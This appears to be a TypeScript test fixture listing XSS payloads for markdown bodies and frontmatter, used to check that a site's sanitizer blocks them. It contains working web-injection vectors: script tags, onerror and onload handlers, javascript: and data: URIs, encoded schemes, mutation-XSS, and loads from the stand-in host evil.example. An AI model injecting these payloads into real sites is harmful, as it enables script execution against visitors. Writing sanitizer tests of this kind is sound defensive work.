/**
 * The XSS corpus. Each payload, if it ever ran, would set window.__xss or open a dialog; the fixture
 * content tree (tests/fixtures/xss/content, written by `npm run test:xss:fixture`) puts every one into
 * markdown bodies and every frontmatter string the site renders.
 *
 * Body payloads avoid only what `content:check` would refuse before the sanitizer ever sees it
 * (markdown images must be https:// or a public/ path; links must not be http://). Those refusals
 * are a second wall, not the one under test, so the same vectors appear in forms the check lets through.
 */
export const RUN = "top.__xss=1";

export const BODY_PAYLOADS: string[] = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<img src=x onerror="${RUN}">`,
  `<IMG SRC=x ONERROR=alert(1)>`,
  `<img src=x onerror=${RUN}`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x="20" y="20">svg link</text></a></svg>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}">`,
  `[markdown javascript link](javascript:${RUN})`,
  `[entity javascript link](&#106;avascript:${RUN})`,
  `[hex entity link](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:${RUN})`,
  `<a href="jav&#x09;ascript:${RUN}">tab-split scheme</a>`,
  `<a href=" JaVaScRiPt:${RUN}">mixed case scheme</a>`,
  `<a href="vbscript:msgbox(1)">vbscript link</a>`,
  `[data link](data:text/html;base64,PHNjcmlwdD50b3AuX194c3M9MTwvc2NyaXB0Pg==)`,
  `<a href="data:text/html,<script>${RUN}</script>">data html link</a>`,
  `![data image][dataimg]\n\n[dataimg]: data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InRvcC5fX3hzcz0xIi8+`,
  `<img src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InRvcC5fX3hzcz0xIi8+>`,
  `<img src=javascript:${RUN}>`,
  `<img src=//evil.example/protocol-relative.png>`,
  `<video><source onerror="${RUN}"></video><audio src=x onerror=${RUN}></audio>`,
  `<img src=/logo.png srcset="https://evil.example/a.png 1x" onload=${RUN}>`,
  `<details open ontoggle="${RUN}"><summary>toggle</summary>x</details>`,
  `<input autofocus onfocus="${RUN}">`,
  `<form action="javascript:${RUN}"><button formaction="javascript:${RUN}">go</button></form>`,
  `<div style="background:url(javascript:${RUN})" onmouseover="${RUN}">styled</div>`,
  `<base href="javascript:/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<table><tr><td><a href="javascript:${RUN}">table link</a></td></tr></table>`,
  `<p id="__next">DOM clobbering</p><a id="__xss" name="__xss" href="https://evil.example">clobber</a>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[</p><script>${RUN}</script>]]> and a ]]> in plain text`,
  "`<script>inside code is text</script>` and\n\n```html\n<script>" + RUN + "</script>\n```",
  `<template><script>${RUN}</script></template>`,
];

/** Frontmatter strings the pages, feeds, JSON-LD, social cards and open data all print. */
export const FRONTMATTER_PAYLOADS: string[] = [
  `</script><script>${RUN}</script>`,
  `"><img src=x onerror=${RUN}>`,
  `'-alert(1)-'`,
  `<svg/onload=${RUN}>`,
  `</title><script>${RUN}</script>`,
  `\u2028\u2029</script><!--<script>${RUN}//`,
  `]]><script>${RUN}</script><![CDATA[`,
  `=HYPERLINK("https://evil.example","click")`,
  `{{constructor.constructor('${RUN}')()}}`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
];
